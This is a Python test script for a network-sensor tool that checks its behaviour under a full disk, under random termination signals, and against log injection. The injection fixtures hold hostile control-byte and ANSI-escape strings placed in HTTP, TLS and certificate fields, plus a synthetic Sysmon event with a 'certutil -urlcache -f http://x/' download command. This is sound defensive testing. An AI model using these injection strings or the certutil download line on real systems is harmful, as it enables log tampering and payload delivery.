#!/usr/bin/env python3
"""When the machine or the traffic turns against the sensor: a full disk, signals at any
moment, and hostile bytes in every text field.

  - full disk: a replay into a small tmpfs that fills, then is freed: the sensor goes on,
    every log parses, the lines it says it lost are exactly the lines missing, writing
    resumes, and stderr says so;
  - signals: SIGTERM at random moments of replays (one and two workers, TSV and JSON) and
    of live runs: every log parses, TSV logs end with #close, every HTTP row's connection
    is in conn.log;
  - log injection: CR, LF, TAB, NUL, DEL, invalid UTF-8 and ANSI escapes in the URI, user
    agent, host, referrer, content type, file name, SNI, certificate subject and issuer
    and host-event command lines: TSV read by zeek-cut's rules, JSON by a JSON parser,
    no raw control byte in any file, and the injected text is in the field, escaped.

Usage: faults_check.py LOLWIRE
"""
import json
import os
import random
import re
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(__file__))
import cli_check as cc  # noqa: E402
from cli_check import check  # noqa: E402
from pcapgen import PcapWriter, TcpConv, http_exchange  # noqa: E402

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


class Bad(Exception):
    pass


def parse_log(path):
    """The rows of a log as dicts; Bad if it does not parse (zeek-cut's rules for TSV, one
    JSON object a line for JSON).  An empty file has no rows."""
    data = open(path, "rb").read()
    if not data:
        return []
    if not data.endswith(b"\n"):
        raise Bad(f"{path}: the last line is cut")
    text = data.decode("utf-8")  # Bad UTF-8 raises
    if text.startswith("{"):
        rows = []
        for i, line in enumerate(text.splitlines()):
            obj = json.loads(line)
            if not isinstance(obj, dict):
                raise Bad(f"{path}:{i + 1}: not an object")
            rows.append(obj)
        return rows
    lines = text.splitlines()
    if not lines[0].startswith("#separator"):
        raise Bad(f"{path}: no header")
    fields = next((ln.split("\t")[1:] for ln in lines if ln.startswith("#fields\t")), None)
    if fields is None:
        raise Bad(f"{path}: no #fields")
    rows = []
    for i, line in enumerate(lines):
        if line.startswith("#"):
            continue
        cols = line.split("\t")
        if len(cols) != len(fields):
            raise Bad(f"{path}:{i + 1}: {len(cols)} columns, #fields has {len(fields)}")
        rows.append(dict(zip(fields, cols)))
    return rows


def parse_dir(d, need_close=True):
    """{log file: rows} for every log in d; Bad on the first that does not parse."""
    out = {}
    for name in sorted(os.listdir(d)):
        if not name.endswith(".log"):
            continue
        path = os.path.join(d, name)
        out[name] = parse_log(path)
        text = open(path, "rb").read()
        if need_close and text.startswith(b"#separator") and \
                not text.rstrip(b"\n").rsplit(b"\n", 1)[-1].startswith(b"#close"):
            raise Bad(f"{path}: no #close at the end")
    return out


def counter(stderr, name):
    m = re.search(rf"^\s+{name}\s+(\d+)\s", stderr, re.M)
    return int(m.group(1)) if m else 0


# ---- full disk ---------------------------------------------------------------------------

def short_conns(w, first, n, ts):
    """n short TCP connections, each a conn.log line, from 10.1.x.y port first+i."""
    for i in range(n):
        c = TcpConv(w, f"10.1.{(first + i) // 250 % 250}.{(first + i) % 250 + 1}",
                    20000 + (first + i) % 40000, "10.2.0.1", 443, ts)
        c.handshake()
        c.close()
        ts += 0.01
    return ts


def disk_full(lw, tmp):
    if os.geteuid() != 0:
        check("full disk (needs root to mount a tmpfs)", False, "not root")
        return
    disk = os.path.join(tmp, "disk")
    os.makedirs(disk)
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", disk]).returncode:
        check("full disk: mount a tmpfs", False, "mount failed")
        return
    try:
        one, two = os.path.join(tmp, "phase1.pcap"), os.path.join(tmp, "phase2.pcap")
        with open(one, "wb") as f:
            ts = short_conns(PcapWriter(f), 0, 3000, 1.7e9)
        with open(two, "wb") as f:
            short_conns(PcapWriter(f), 3000, 400, ts + 100)
        both = os.path.join(tmp, "both.pcap")
        with open(both, "wb") as f:
            f.write(open(one, "rb").read() + open(two, "rb").read()[24:])
        ref = os.path.join(tmp, "ref")
        subprocess.run([lw, "-q", "--seed", "1", "-r", both, "-o", ref], check=True)
        want = {k: len(v) for k, v in parse_dir(ref).items()}
        # leave ~16 KiB: the first buffers of conn.log cannot be written
        filler = os.path.join(disk, "filler")
        st = os.statvfs(disk)
        with open(filler, "wb") as f:
            f.write(b"\0" * (st.f_bavail * st.f_frsize - 16384))
        logs = os.path.join(disk, "logs")
        p = subprocess.Popen([lw, "-v", "--seed", "1", "-r", "-", "-o", logs],
                             stdin=subprocess.PIPE, stderr=subprocess.PIPE)
        p.stdin.write(open(one, "rb").read())
        p.stdin.flush()
        time.sleep(2.0)                     # the sensor reads it all, the disk is full
        os.remove(filler)                   # room again
        p.stdin.write(open(two, "rb").read()[24:])
        p.stdin.close()
        err = p.stderr.read().decode(errors="replace")
        p.wait(timeout=60)
        check("full disk: the sensor goes on and exits 1 (lines were lost)",
              p.returncode == 1, err[-500:])
        try:
            got = {k: len(v) for k, v in parse_dir(logs).items()}
            parsed = True
        except (Bad, ValueError) as e:
            got, parsed = {}, False
            err += f"\n{e}"
        check("full disk: every log parses (no half line, headers, #close)", parsed, err[-500:])
        lost = counter(err, "log_lines_lost")
        missing = sum(want.values()) - sum(got.values())
        check("full disk: the lost-line counter equals the lines missing (and some were lost)",
              lost > 0 and lost == missing, f"lost {lost}, missing {missing}: {want} vs {got}")
        rows = parse_log(os.path.join(logs, "conn.log")) if parsed else []
        late = [r for r in rows if int(r["id.orig_p"]) >= 23000]
        check("full disk: writing resumed when there was room (later connections logged)",
              len(late) > 0, f"{len(late)} of 400 later connections")
        check("full disk: stderr says lines are lost, and that writing resumed",
              "lines lost" in err and "writing again" in err, err[-800:])
    finally:
        subprocess.run(["umount", disk])


# ---- signals -----------------------------------------------------------------------------

def big_capture(path, n=6000):
    """n HTTP downloads of 20 KB, and as many short connections: a second or two to read."""
    body = bytes(range(256)) * 80
    with open(path, "wb") as f:
        w = PcapWriter(f)
        ts = 1.7e9
        for i in range(n):
            req = f"GET /f{i}.bin HTTP/1.1\r\nHost: h{i % 50}.example\r\n\r\n".encode()
            resp = (f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n"
                    "Content-Type: application/octet-stream\r\n\r\n").encode() + body
            ts = http_exchange(w, f"10.3.{i // 250 % 250}.{i % 250 + 1}", 30000 + i % 30000,
                               "10.4.0.1", ts, req, resp) + 0.001


def consistent(d):
    """Every log parses, TSV ends with #close, every http.log uid is in conn.log."""
    logs = parse_dir(d)
    conns = {r["uid"] for r in logs.get("conn.log", [])}
    orphans = [r["uid"] for r in logs.get("http.log", []) if r["uid"] not in conns]
    if orphans:
        raise Bad(f"{d}: http.log rows whose connection is not in conn.log: {orphans[:3]}")
    return sum(len(v) for v in logs.values())


def signals(lw, tmp):
    cap = os.path.join(tmp, "big.pcap")
    big_capture(cap)
    t0 = time.monotonic()
    subprocess.run([lw, "-q", "-r", cap, "-o", os.path.join(tmp, "sig-full")], check=True)
    full = time.monotonic() - t0
    rnd = random.Random(14)
    bad, codes, rows = [], [], []
    for i in range(24):
        d = os.path.join(tmp, f"sig{i}")
        extra = (["--threads", "2"] if i % 3 == 1 else []) + (["--json"] if i % 4 == 2 else [])
        p = subprocess.Popen([lw, "-q", "-r", cap, "-o", d, "--eve",
                              os.path.join(d, "eve.json")] + extra, stderr=subprocess.PIPE)
        time.sleep(rnd.uniform(0, full * 1.1))
        p.send_signal(signal.SIGTERM if i % 2 == 0 else signal.SIGINT)
        err = p.communicate(timeout=60)[1].decode(errors="replace")
        codes.append(p.returncode)
        try:
            rows.append(consistent(d) if os.path.isdir(d) else 0)
            for line in open(os.path.join(d, "eve.json")) if os.path.exists(
                    os.path.join(d, "eve.json")) else []:
                json.loads(line)
        except (Bad, ValueError, OSError) as e:
            bad.append(f"run {i} ({extra}): {e} {err[-200:]}")
    check("signals: SIGTERM/SIGINT at 24 random moments of replays (1 and 2 workers, TSV "
          "and JSON): every log parses, TSV ends with #close, http rows have their conn",
          not bad, "; ".join(bad[:3]))
    check("signals: a replay stopped by a signal exits 0", all(c == 0 for c in codes),
          str(codes))
    check("signals: the stops fell at different moments (from empty to whole logs)",
          len(set(rows)) >= 5, str(rows))
    live_signals(lw, tmp)


def live_signals(lw, tmp):
    if not cc.can_netns("signals during live capture"):
        return
    with cc.web_lab("k", tmp, {"k.bin": os.urandom(30000)}) as (sh, ns_a, ns_b, procs):
        rnd = random.Random(7)
        bad = []
        for i in range(6):
            d = os.path.join(tmp, f"live-sig{i}")
            p = subprocess.Popen(["ip", "netns", "exec", ns_a, lw, "-q", "-i", "lwk0", "-o", d] +
                                 (["--threads", "2"] if i % 2 else []),
                                 stderr=subprocess.PIPE)
            procs.append(p)
            time.sleep(1.0)
            # downloads in the background while the signal falls
            curl = subprocess.Popen(["ip", "netns", "exec", ns_b, "sh", "-c",
                                     "for i in $(seq 40); do curl -s -o /dev/null "
                                     "http://192.0.2.1:8000/k.bin; done"])
            time.sleep(rnd.uniform(0.1, 1.5))
            p.send_signal(signal.SIGTERM)
            try:
                p.communicate(timeout=20)
            except subprocess.TimeoutExpired:
                p.kill()
                bad.append(f"live run {i}: no exit within 20 s")
            curl.wait()
            try:
                consistent(d)
                if p.returncode != 0:
                    bad.append(f"live run {i}: exit {p.returncode}")
            except (Bad, ValueError, OSError) as e:
                bad.append(f"live run {i}: {e}")
        check("signals: SIGTERM at 6 random moments of live captures under traffic (1 and 2 "
              "workers): exit 0, every log parses and is closed", not bad, "; ".join(bad))


# ---- log injection -----------------------------------------------------------------------

# The ANSI escape first (MARK must survive whatever a field keeps), a NUL last.  HTTP
# header values and the URI cannot hold CR or LF (they end the line): HOSTILE_LINE has none.
HOSTILE_LINE = b"\x1b[31mred\x1b[0m a\tb\x7fc\xff\xfed\xc3(e\\f,g\x00h"
HOSTILE = b"\x1b[31mred\x1b[0m a\rb\nc\td\x7fe\xff\xfef\xc3(g\\h,i\x00j"
# Certificate names: OpenSSL refuses a UTF8String that is not UTF-8, so controls only.
HOSTILE_CERT = b"\x1b[31mred\x1b[0m a\rb\nc\td\x7fe\\h,i\x00j \xe2\x80\xae"
MARK = "\\x1b[31mred"   # how the ANSI escape must read in TSV (and in JSON's text)


def der(tag, body):
    n = len(body)
    if n < 128:
        return bytes([tag, n]) + body
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(b)]) + b + body


def name(cn):
    # CN as a UTF8String: bytes as they are (OpenSSL escapes some, lolwire the rest)
    atv = der(0x30, der(0x06, bytes([0x55, 0x04, 0x03])) + der(0x0c, cn))
    return der(0x30, der(0x31, atv))


def certificate(subject_cn, issuer_cn):
    alg = der(0x30, der(0x06, bytes.fromhex("2a864886f70d01010b")) + b"\x05\x00")
    spki = der(0x30, der(0x30, der(0x06, bytes.fromhex("2a864886f70d010101")) + b"\x05\x00") +
               der(0x03, b"\x00" + der(0x30, der(0x02, b"\x00" + b"\xc1" * 64) +
                                      der(0x02, b"\x01\x00\x01"))))
    validity = der(0x30, der(0x17, b"250101000000Z") + der(0x17, b"300101000000Z"))
    tbs = der(0x30, der(0xa0, der(0x02, b"\x02")) + der(0x02, b"\x01\x23") + alg +
              name(issuer_cn) + validity + name(subject_cn) + spki)
    return der(0x30, tbs + alg + der(0x03, b"\x00" + b"\x5a" * 64))


def tls_record(typ, body):
    return struct.pack("!BHH", typ, 0x0303, len(body)) + body


def handshake(typ, body):
    return struct.pack("!B", typ) + len(body).to_bytes(3, "big") + body


def client_hello(sni):
    ext_sni = struct.pack("!HH", 0, len(sni) + 5) + struct.pack("!HBH", len(sni) + 3, 0,
                                                                len(sni)) + sni
    exts = ext_sni
    body = (b"\x03\x03" + b"\x11" * 32 + b"\x00" + struct.pack("!H", 4) + b"\x13\x01\xc0\x2f" +
            b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    return tls_record(22, handshake(1, body))


def server_flight(cert):
    hello = handshake(2, b"\x03\x03" + b"\x22" * 32 + b"\x00" + b"\xc0\x2f" + b"\x00" +
                      b"\x00\x00")
    chain = len(cert).to_bytes(3, "big") + cert
    certs = handshake(11, (len(chain)).to_bytes(3, "big") + chain)
    return tls_record(22, hello + certs)


def injection(lw, tmp):
    cap = os.path.join(tmp, "hostile.pcap")
    h = HOSTILE_LINE
    with open(cap, "wb") as f:
        w = PcapWriter(f)
        req = (b"GET /p?" + h + b" HTTP/1.1\r\nHost: host" + h + b"\r\nUser-Agent: ua" + h +
               b"\r\nReferer: http://r/" + h + b"\r\n\r\n")
        body = b"MZ" + b"\0" * 300
        resp = (b"HTTP/1.1 200 OK\r\nContent-Type: ct" + h +
                b"\r\nContent-Disposition: attachment; filename=\"f" + h.replace(b'"', b"") +
                b".exe\"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
        ts = http_exchange(w, "10.5.0.1", 40001, "10.6.0.1", 1.7e9, req, resp)
        c = TcpConv(w, "10.5.0.1", 40002, "10.6.0.2", 443, ts + 1)
        c.handshake()
        c.send(True, client_hello(b"sni" + HOSTILE))
        c.send(False, server_flight(certificate(b"subj" + HOSTILE_CERT, b"iss" + HOSTILE_CERT)))
        c.close()
    ev = os.path.join(tmp, "hostile.jsonl")
    with open(ev, "w") as f:
        cmd = "certutil -urlcache -f http://x/" + HOSTILE.decode("latin-1")
        f.write(json.dumps({"@timestamp": "2023-11-14T22:13:20.000Z", "event": {"code": 1},
                            "host": {"name": "ws1"}, "winlog": {
                                "channel": "Microsoft-Windows-Sysmon/Operational",
                                "event_id": 1, "event_data": {
                                    "Image": "C:\\Windows\\System32\\certutil.exe",
                                    "CommandLine": cmd, "ProcessId": "42",
                                    "ProcessGuid": "{aa}", "User": "u" + h.decode("latin-1")}}}) +
                "\n")
    for fmt in ("tsv", "json"):
        d = os.path.join(tmp, "inj-" + fmt)
        r = subprocess.run([lw, "-q", "--seed", "1", "-r", cap, "--host-events", ev, "-o", d,
                            "--eve", os.path.join(d, "eve.json"), "--min-severity", "info"] +
                           (["--json"] if fmt == "json" else []), capture_output=True, text=True)
        try:
            logs = parse_dir(d)
            raw = {n: open(os.path.join(d, n), "rb").read() for n in os.listdir(d)}
            for n, data in raw.items():
                # no raw control byte but the separators: TAB in TSV, LF ends a line
                ctrl = [b for b in set(data) if (b < 0x20 and b not in (9, 10)) or b == 0x7f]
                if ctrl or (fmt == "json" and b"\t" in data):
                    raise Bad(f"{n}: raw control bytes {sorted(ctrl)}")
                data.decode("utf-8")
            ok = True
        except (Bad, ValueError, OSError) as e:
            logs, ok = {}, False
            r_err = str(e)
        check(f"injection ({fmt}): every log parses, no raw control byte, valid UTF-8",
              ok and r.returncode == 0, r.stderr[-300:] + ("" if ok else r_err))
        if not ok:
            continue
        http = logs.get("http.log", [{}])[0]
        ssl = logs.get("ssl.log", [{}])[0]
        files = logs.get("files.log", [{}])[0]
        hostev = logs.get("host_events.log", [{}])
        fields = {"uri": http.get("uri"), "host": http.get("host"),
                  "user_agent": http.get("user_agent"), "referrer": http.get("referrer"),
                  "server_name": ssl.get("server_name"), "subject": ssl.get("subject"),
                  "issuer": ssl.get("issuer"),
                  "command_line": next((e.get("command_line") for e in hostev
                                        if e.get("command_line")), None),
                  "filename": files.get("filename")}
        # certificate names are in RFC 2253 form, where OpenSSL escapes controls as \1B
        mark = {"subject": "\\1B[31mred", "issuer": "\\1B[31mred"}
        missing = [k for k, v in fields.items() if not v or mark.get(k, MARK) not in str(v)]
        check(f"injection ({fmt}): the hostile text is in each field, its escapes escaped "
              "(uri, host, user agent, referrer, SNI, subject, issuer, file name, command line)",
              not missing, f"not escaped or missing: {missing}; {fields}")
        eve = [json.loads(x) for x in open(os.path.join(d, "eve.json"))] \
            if os.path.exists(os.path.join(d, "eve.json")) else []
        check(f"injection ({fmt}): eve.json lines parse", all(isinstance(e, dict) for e in eve),
              str(len(eve)))


def main():
    lw = sys.argv[1]
    tmp = tempfile.mkdtemp(prefix="lw-faults-")
    try:
        injection(lw, tmp)
        disk_full(lw, tmp)
        signals(lw, tmp)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    failed = [r for r in cc.results if not r[1]]
    for name_, ok, detail in cc.results:
        print(f"  {'ok  ' if ok else 'FAIL'} {name_}" +
              (f"\n        {detail[:700]}" if not ok else ""))
    print(f"faults: {len(cc.results) - len(failed)} of {len(cc.results)} checks passed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
